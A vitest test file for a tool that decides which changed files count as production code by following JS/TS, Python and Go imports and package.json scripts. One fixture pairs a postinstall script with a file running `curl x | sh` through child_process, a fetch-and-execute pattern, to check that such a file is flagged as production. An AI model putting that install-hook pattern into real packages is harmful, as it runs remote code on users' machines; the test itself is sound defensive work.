import { describe, expect, it } from 'vitest';
import { ChangeContexts } from '../../../src/core/context/change.js';
import { importTargets, joinPath, scriptTargets } from '../../../src/core/context/imports.js';

function promotions(files: Record<string, string>): Record<string, string> {
  const contexts = new ChangeContexts();
  for (const [path, text] of Object.entries(files)) contexts.record(path, text.split('\n'));
  return Object.fromEntries(contexts.promotions());
}

describe('imports among the changed files', () => {
  it('joins relative paths and refuses to climb above the root', () => {
    expect(joinPath('src/a', '../b/./c')).toBe('src/b/c');
    expect(joinPath('', './x')).toBe('x');
    expect(joinPath('src', '../../x')).toBeNull();
  });

  it('reads JS/TS relative imports, requires and dynamic imports, not packages', () => {
    const targets = importTargets('src/app.ts', [
      "import { a } from './test/helpers.js';",
      "const b = require('../fixtures/data');",
      "const c = await import('./examples/demo');",
      "import 'lodash';",
      "export * from './lib';",
    ]);
    const exact = targets.flatMap((t) => ('exact' in t ? t.exact : []));
    expect(exact).toContain('src/test/helpers.ts');
    expect(exact).toContain('fixtures/data.js');
    expect(exact).toContain('src/examples/demo/index.ts');
    expect(exact).toContain('src/lib.ts');
    expect(exact.some((p) => p.includes('lodash'))).toBe(false);
  });

  it('a Python module imported by production code is production, however it is named', () => {
    expect(
      promotions({
        'src/app/main.py': 'from app.test_utils import make_client\nfrom .tests import helpers\n',
        'src/app/test_utils.py': 'import ssl\n',
        'src/app/testing_utils.py': 'import ssl\n',
        'src/app/tests/helpers.py': 'x = 1\n',
        'src/app/tests/test_main.py': 'from app import main\n',
      }),
    ).toEqual({ 'src/app/test_utils.py': 'imported by src/app/main.py', 'src/app/tests/helpers.py': 'imported by src/app/main.py' });
  });

  it('follows imports from promoted files on, and not imports from tests', () => {
    expect(
      promotions({
        'lib/index.js': "const h = require('./test/harness');\n",
        'lib/test/harness.js': "module.exports = require('./fixtures/server');\n",
        'lib/test/fixtures/server.js': 'module.exports = {};\n',
        'lib/test/other.test.js': "require('./unused');\n",
        'lib/test/unused.js': '',
      }),
    ).toEqual({
      'lib/test/harness.js': 'imported by lib/index.js',
      'lib/test/fixtures/server.js': 'imported by lib/test/harness.js, which is production',
    });
  });

  it('Go: a package imported by production code, by directory; never its _test.go files or testdata', () => {
    expect(
      promotions({
        'cmd/srv/main.go': 'package main\n\nimport (\n\t"fmt"\n\tex "github.com/acme/srv/examples/tlsdemo"\n)\n\nfunc main() {}\n',
        'examples/tlsdemo/demo.go': 'package tlsdemo\n',
        'examples/tlsdemo/demo_test.go': 'package tlsdemo\n',
        'examples/other/other.go': 'package other\n',
        'examples/tlsdemo/testdata/gen.go': 'package main\n',
      }),
    ).toEqual({ 'examples/tlsdemo/demo.go': 'imported by cmd/srv/main.go' });
  });

  it('a file a package.json script runs is production', () => {
    expect(scriptTargets('pkg/package.json', JSON.stringify({ scripts: { postinstall: 'node ./test/setup.js && sh tools/x.sh' } }))).toEqual([
      'pkg/test/setup.js',
      'pkg/tools/x.sh',
    ]);
    expect(
      promotions({
        'package.json': JSON.stringify({ scripts: { postinstall: 'node examples/install.js' } }, null, 2),
        'examples/install.js': "require('child_process').exec('curl x | sh');\n",
      }),
    ).toEqual({ 'examples/install.js': 'run by a script of package.json' });
    expect(scriptTargets('package.json', '{ not json')).toEqual([]);
  });

  it('promotes nothing when no production file imports a test-named one', () => {
    expect(promotions({ 'src/app.py': 'import os\n', 'tests/test_app.py': 'from src import app\n' })).toEqual({});
  });
});
